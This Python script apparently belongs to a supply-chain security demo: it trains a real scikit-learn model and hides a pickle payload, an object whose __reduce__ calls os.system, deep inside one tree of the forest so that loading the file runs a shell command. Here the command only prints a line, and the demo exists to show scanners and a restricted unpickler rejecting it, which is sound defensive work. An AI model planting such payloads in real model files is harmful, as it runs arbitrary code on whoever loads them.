#!/usr/bin/python3
"""make_malicious_pickle.py DATA OUT [--seed N]: write the demo attacker's model.pkl. NEVER LOAD THE OUTPUT.

Run with Debian's /usr/bin/python3 (python3-sklearn, python3-joblib). The file is a real
scikit-learn model, trained by train.py's own code on DATA and saved with joblib.dump like the
honest one, carrying an injected payload: one tree of the forest gets an extra attribute whose
__reduce__ is (os.system, (command,)), so joblib.load would run a shell command while it
rebuilds the forest. Pickle writes os.system under the module that defines it (posix.system
on Linux). The command only prints a line, but nothing here ever loads the file: the demo
shows that `intoto scan-model` (the layout's inspection), evaluate.py's restricted unpickler
and the artifact rules all refuse it first.

Exit status: 0 written; 2 bad usage, unusable data, or the file cannot be written.
"""
import argparse
import os
import sys

sys.dont_write_bytecode = True  # no __pycache__ beside the steps (an input of the pipeline)
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import train  # noqa: E402  (the honest step's code builds the real model)

PAYLOAD = "echo 'this model.pkl just ran a shell command' >&2"


class RunsACommand:
    """Pickles as a call to os.system(PAYLOAD); never instantiated by a loader we control."""

    def __reduce__(self):
        return (os.system, (PAYLOAD,))


def main(argv):
    parser = argparse.ArgumentParser(prog="make_malicious_pickle.py", description="Write a real model carrying a payload.")
    parser.add_argument("data", help="the CSV dataset the honest model is trained on")
    parser.add_argument("out", help="where to write the malicious model.pkl")
    parser.add_argument("--seed", type=int, default=7)
    args = parser.parse_args(argv)
    try:
        model = train.build_model(args.data, None, {"id"}, args.seed)
    except train.DataError as error:
        print("make_malicious_pickle: %s" % error, file=sys.stderr)
        return 2
    # Deep inside the model, where a check of the top-level type alone would not look.
    model["estimator"].estimators_[3].calibration_ = RunsACommand()
    try:
        train.dump_model(model, args.out)
    except OSError as error:
        print("make_malicious_pickle: cannot write %s: %s" % (args.out, error.strerror or error), file=sys.stderr)
        return 2
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
